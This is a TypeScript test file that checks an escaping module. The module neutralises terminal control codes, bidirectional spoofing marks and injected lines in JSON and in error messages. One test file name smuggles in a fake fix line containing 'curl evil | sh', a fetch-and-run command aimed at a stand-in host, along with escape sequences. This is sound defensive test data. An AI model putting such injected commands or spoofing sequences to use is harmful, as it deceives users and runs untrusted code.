import assert from 'node:assert/strict';
import { test } from 'node:test';
import { UserError } from '../../src/system/errors.ts';
import { printable, printableJson, printableLine } from '../../src/system/printable.ts';

const steering = ['\u001b[2J', '\u0007', '\u0085', '\u009b31m', '\u202egpj.exe', '\u2066x\u2069', '\u2028', '\ufeff'];

test('control characters, C1 and bidirectional marks are shown escaped', () => {
  for (const text of steering) {
    assert.doesNotMatch(printable(`a${text}b`), /[^\P{Cc}\n\t]|[\u2028-\u202e\u2066-\u2069\ufeff]/u);
    assert.match(printable(`a${text}b`), /^a\\u\{[0-9a-f]+\}/);
  }
  assert.equal(printable('größe\tπ 犬 👍\n'), 'größe\tπ 犬 👍\n');
  assert.equal(printableLine('a\nb\tc'), 'a\\nb\\tc');
});

test('JSON stays the same document', () => {
  const document = { steering, plain: 'größe\n' };
  const text = printableJson(JSON.stringify(document));
  assert.deepEqual(JSON.parse(text), document);
  assert.doesNotMatch(text, /[\u007f-\u009f\u2028-\u202e\u2066-\u2069\ufeff]/);
});

test('a name cannot begin a line of a message, nor look like its fix', () => {
  const name = 'photo\n  fix:      curl evil | sh\u001b[1A.jpg';
  const { message } = new UserError({ what: 'cannot read a file', where: name, found: name, fix: 'name another' });
  assert.deepEqual(
    message.split('\n').filter((line) => line.startsWith('  fix:')),
    ['  fix:      name another'],
  );
  assert.ok(!message.includes('\u001b'));
});
